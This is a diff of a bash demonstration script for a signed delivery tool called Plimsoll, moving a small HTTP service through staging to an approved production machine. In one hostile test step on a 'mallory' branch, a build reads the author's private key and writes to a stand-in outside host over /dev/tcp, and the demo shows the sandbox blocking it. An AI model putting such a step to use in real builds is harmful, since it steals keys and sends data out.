@@ -1,6 +1,8 @@
 #!/usr/bin/env bash
-# The demonstration: a small HTTP service with dependencies goes from a commit to a running process, and four things that
-# must not happen do not. It only runs commands that you could type, and prints each before it runs it.
+# The demonstration: a small HTTP service goes from a commit through staging to production, past people who did not write
+# it, onto a machine that starts nothing else; what must not happen on the way does not. It only runs commands that you
+# could type, and prints each before it runs it, behind the name of whoever types it: Ann writes the service, Bob approves
+# releases, and prod-1 is the machine of production. All three are directories of this machine.
 set -euo pipefail
 here=$(cd "$(dirname "$0")" && pwd)
 # shellcheck source=dev/env.sh
@@ -10,9 +12,16 @@ PATH="$PLIMSOLL_ROOT/${CARGO_TARGET_DIR:-target}/debug:${CARGO_TARGET_DIR:+$CARG
 home=$(mktemp -d "${TMPDIR:-/tmp}/plimsoll-demo.XXXXXX")
 # Nothing of the person who runs this is read or changed, but for cargo's own configuration.
 export CARGO_HOME=${CARGO_HOME:-$HOME/.cargo} RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
-export HOME=$home PLIMSOLL_STATE=$home/state GIT_CONFIG_NOSYSTEM=1
+export HOME=$home/ann PLIMSOLL_STATE=$home/ann/state GIT_CONFIG_NOSYSTEM=1
+unset SSH_AUTH_SOCK
+mkdir "$home/ann" "$home/bob" "$home/prod-1"
+agent= load=
 clean() {
-    plimsoll stop shop@local >/dev/null 2>&1 || true
+    if [ -n "$load" ]; then kill "$load" 2>/dev/null || true; fi
+    if [ -n "$agent" ]; then kill "$agent" && wait "$agent" || true; fi
+    PLIMSOLL_STATE=$home/prod-1/state plimsoll stop shop@production >/dev/null 2>&1 || true
+    plimsoll stop shop@staging >/dev/null 2>&1 || true
+    chmod -R u+rwX "$home"
     rm -rf "$home"
 }
 trap clean EXIT
@@ -20,9 +29,9 @@ trap 'exit 130' INT TERM
 
 bold() { if [ -t 1 ]; then printf '\033[1m%s\033[0m\n' "$*"; else printf '%s\n' "$*"; fi; }
 chapter() { printf '\n'; bold "== $*"; }
-# A command as it could be typed.
+# A command as it could be typed, by whoever is at work.
 show() {
-    local word line='$'
+    local word line="${HOME##*/} \$"
     for word in "$@"; do
         case $word in
         '' | *[!A-Za-z0-9_./:@=%+,-]*) line+=" '$word'" ;;
@@ -36,6 +45,12 @@ run() {
     show "$@"
     "$@"
 }
+# The same by somebody else, with a home and a state directory of their own.
+as() {
+    local who=$1
+    shift
+    HOME=$home/$who PLIMSOLL_STATE=$home/$who/state "$@"
+}
 # A command that must be refused, with this code.
 refused() {
     local code=$1 output status=0
@@ -48,11 +63,26 @@ refused() {
         exit 1
     fi
 }
-# A port that nobody listens on.
+# Waits for something that happens by itself.
+wait_for() {
+    local _
+    for _ in $(seq 300); do
+        if "$@" >/dev/null 2>&1; then return; fi
+        sleep 0.2
+    done
+    echo "demo: this did not come true: $*" >&2
+    cat "$home/prod-1/log" >&2
+    exit 1
+}
+# What the board says of production.
+board() { plimsoll status | sed -n '/^shop@production/,/^[^ ]/p' | grep -- "$1"; }
+told() { grep -- "$1" "$home/prod-1/log"; }
+# A port that nobody listens on, nor on the one after it.
 free_port() {
     local port
-    for port in $(seq 8080 8180); do
-        if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then
+    for port in $(seq 8080 2 8180); do
+        if ! (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null &&
+            ! (exec 3<>"/dev/tcp/127.0.0.1/$((port + 1))") 2>/dev/null; then
             echo "$port"
             return
         fi
@@ -61,24 +91,45 @@ free_port() {
     return 1
 }
 port=$(free_port)
+production=http://127.0.0.1:$((port + 1))
 
 chapter "A repository with a small HTTP service, and commits signed by its author"
-run ssh-keygen -q -t ed25519 -N '' -C ann@example.org -f "$home/ann"
+run ssh-keygen -q -t ed25519 -N '' -C ann@example.org -f "$home/ann/key"
 cp -r "$here/shop" "$home/shop"
 rm -rf "$home/shop/target"
 cd "$home/shop"
 run git config --global user.name Ann
 run git config --global user.email ann@example.org
 run git config --global gpg.format ssh
-run git config --global user.signingKey "$home/ann.pub"
+run git config --global user.signingKey "$home/ann/key.pub"
 run git config --global commit.gpgSign true
 run git init -q -b main
 run git add -A
 run git commit -q -m 'shop: a small service'
 
-chapter "A delivery repository says what may run: it asks for what this project can show"
-run plimsoll init --delivery "$home/delivery" --listen "$port"
-run cat "$home/delivery/environments/local/environment.yaml"
+chapter "A delivery repository says what may run where: production comes after staging, and asks for somebody else's approval"
+run plimsoll init --delivery "$home/delivery" --environments staging,production --listen "$port"
+run cat "$home/delivery/environments/production/environment.yaml"
+
+chapter "Bob may approve; production lives on a machine of its own, and falls back for a minute after each release"
+as bob git config --global user.name Bob
+as bob git config --global user.email bob@example.org
+as bob run ssh-keygen -q -t ed25519 -N '' -C bob@example.org -f "$home/bob/key"
+as bob git config --global user.signingKey "$home/bob/key.pub"
+cat >>"$home/delivery/people.yaml" <<EOF
+  - name: Bob
+    git-emails: [bob@example.org]
+    ssh-keys: ["$(cat "$home/bob/key.pub")"]
+    roles: [release-managers]
+EOF
+echo 'rollback: {automatic: true, on: [start, health], confirm: 1m}' >>"$home/delivery/environments/production/environment.yaml"
+cat >"$home/delivery/environments/production/shop/target.yaml" <<EOF
+version: 1
+host: {agent: prod-1, port: 8080, listen: $((port + 1)), health: /healthz, strategy: blue-green}
+EOF
+run git -C "$home/delivery" diff --unified=0
+run git -C "$home/delivery" commit -q -a -m 'bob approves; production is prod-1'
+run plimsoll policy sign -C "$home/delivery"
 
 chapter "A step that reads a file of the host and calls out gets neither"
 run git checkout -q -b mallory
@@ -89,7 +140,7 @@ build:
   toolchain: host
   steps:
     - name: peek
-      run: [/bin/bash, -c, 'cat $home/ann; echo hello > /dev/tcp/192.0.2.1/443']
+      run: [/bin/bash, -c, 'cat $home/ann/key; echo hello > /dev/tcp/192.0.2.1/443']
       scratch: [out]
       out: [out/shop]
   artifact: {files: [out/shop]}
@@ -105,16 +156,85 @@ chapter "A commit that breaks a test builds, and the gate refuses it"
 sed -i 's/995/996/' src/lib.rs
 run git commit -q -am 'shop: rope costs more'
 refused unit plimsoll run
-refused E-EVIDENCE-FAILED plimsoll promote shop --to local
+refused E-EVIDENCE-FAILED plimsoll promote shop --to staging
 
-chapter "The fixed commit is built, tested and signed, allowed, and started"
+chapter "The fixed commit is built, tested and signed, allowed, and started in staging"
 run git revert --no-edit HEAD
 run plimsoll run
-run plimsoll promote shop --to local
+run plimsoll promote shop --to staging
 run curl --silent --fail "http://127.0.0.1:$port/price/rope/3"
-printf '\n'
-run plimsoll why shop@local
 
+chapter "The machine of production: its agent believes the trust root, and the root believes its key"
+as prod-1 run plimsoll agent enroll prod-1 --environment production --delivery "$home/delivery" --artifacts "$home/ann/state/layout"
+run plimsoll trust add agent:production "$home/prod-1/state/keys/agent-production.pub" -C "$home/delivery"
+as prod-1 show plimsoll agent run --interval 1 '&'
+HOME=$home/prod-1 PLIMSOLL_STATE=$home/prod-1/state plimsoll agent run --interval 1 2>"$home/prod-1/log" &
+agent=$!
+
+chapter "Production refuses what nobody approved, and what only its author did"
+refused E-APPR-QUORUM plimsoll promote shop --to production
+run plimsoll approve shop@production --yes
+refused E-APPR-SELF plimsoll promote shop --to production
+
+chapter "Bob reads what would change, and signs; the very artifact of staging goes to production"
+as bob run plimsoll trust pin "$home/delivery"
+as bob run plimsoll approve shop@production --yes
+run plimsoll promote shop --to production
+run curl --silent --fail "$production/price/rope/3"
+run plimsoll why shop@production
+
+chapter "Under load: a version that gets sick after a few seconds falls back by itself, and no request fails"
+: >"$home/answers"
+(while :; do curl --silent --output /dev/null --write-out '%{http_code}\n' "$production/price/rope/3" >>"$home/answers"; done) &
+load=$!
+cat >>src/lib.rs <<'EOF'
+
+fn health() -> u16 {
+    static BEGAN: std::sync::OnceLock<std::time::Instant> = std::sync::OnceLock::new();
+    if BEGAN.get_or_init(std::time::Instant::now).elapsed().as_secs() < 5 { 200 } else { 500 }
+}
+EOF
+sed -i 's/\["healthz"\] => Answer { status: 200/["healthz"] => Answer { status: health()/' src/lib.rs
+run git commit -q -am 'shop: a leak'
+run plimsoll run
+run plimsoll promote shop --to staging
+refused E-APPR plimsoll promote shop --to production
+as bob run plimsoll approve shop@production --yes
+show plimsoll promote shop --to production
+# It serves, or was taken back already: both are what happened.
+plimsoll promote shop --to production || true
+wait_for board E-FALLBACK
+run plimsoll status
+run curl --silent --fail "$production/healthz"
+kill "$load"
+wait "$load" || true
+load=
+printf '\n'
+bold "ann \$ sort $home/answers | uniq -c"
+sort "$home/answers" | uniq -c
+if grep -qv '^200$' "$home/answers"; then
+    echo "demo: requests failed" >&2
+    exit 1
+fi
+
+chapter "Somebody changes a file of the running release: drift, shown with its cause and repaired"
+file=$(find "$home"/prod-1/state/services/shop@production/release-*/root -name shop | head -1)
+chmod u+w "$file"
+printf '\n'
+bold "root \$ echo surprise >> $file"
+echo surprise >>"$file"
+wait_for told 'repair.*shop@production'
+wait_for told 'drift.*shop@production'
+run grep -A 2 drift "$home/prod-1/log"
+
+chapter "Somebody forges a promotion: another release under the decision of this one"
+sed -i 's/"artifact":"sha256:....../"artifact":"sha256:facade/' "$home/delivery/environments/production/shop/release.json"
+run git -C "$home/delivery" commit -q -a -m 'promote shop@production'
+wait_for board E-DELIVERY-COMMIT
+run plimsoll status
+run git -C "$home/delivery" revert --no-edit HEAD
+in_order() { ! board E-DELIVERY-COMMIT; }
+wait_for in_order
 chapter "Tools that never heard of Plimsoll check its signatures"
 id=$(plimsoll --json status | sed -n 's/^ *"run": "\([0-9a-f]\{32\}\)".*/\1/p' | head -1)
 run plimsoll export "$id" --to "$home/out"
@@ -127,7 +247,7 @@ run "${cosign_verify[@]}" "$home/out/files/shop"
 run plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"
 
 chapter "The decision and everything it was computed from, in one file, recomputed offline"
-run plimsoll dossier shop@local --output "$home/shop.dossier.tar"
+run plimsoll dossier shop@production --output "$home/shop.dossier.tar"
 run plimsoll verify "$home/shop.dossier.tar" --root "$home/delivery/trust/root.json"
 
 chapter "One flipped byte"
@@ -138,14 +258,14 @@ printf 'X' | dd of="$home/out/files/shop" bs=1 seek=4096 conv=notrunc status=non
 refused E-SUBJECT plimsoll verify "$home/out/artifact.sigstore.json" --subject "$home/out/files/shop"
 refused 'subject digest\|not match\|Error' "${cosign_verify[@]}" "$home/out/files/shop"
 
-chapter "From the process back to the commit"
-run plimsoll trace shop@local
-process=$(plimsoll --json status | sed -n 's/^ *"process": \([0-9]*\).*/\1/p' | head -1)
+chapter "From the process of production back to the commit"
+as prod-1 run plimsoll status
+process=$(as prod-1 plimsoll --json status | sed -n 's/^ *"process": \([0-9]*\).*/\1/p' | head -1)
 run sha256sum "/proc/$process/exe"
 actual=$(sha256sum "/proc/$process/exe" | cut -d' ' -f1)
-if ! plimsoll trace shop@local | grep -q "executes sha256:$actual  as decided"; then
-    echo "demo: the trace does not name what process $process executes" >&2
+run plimsoll trace "$actual"
+if ! plimsoll trace "$actual" | grep -q "shop@production"; then
+    echo "demo: the trace does not lead from what process $process executes to production" >&2
     exit 1
 fi
-run plimsoll stop shop@local
 chapter "Done. Everything of this demonstration is removed again."
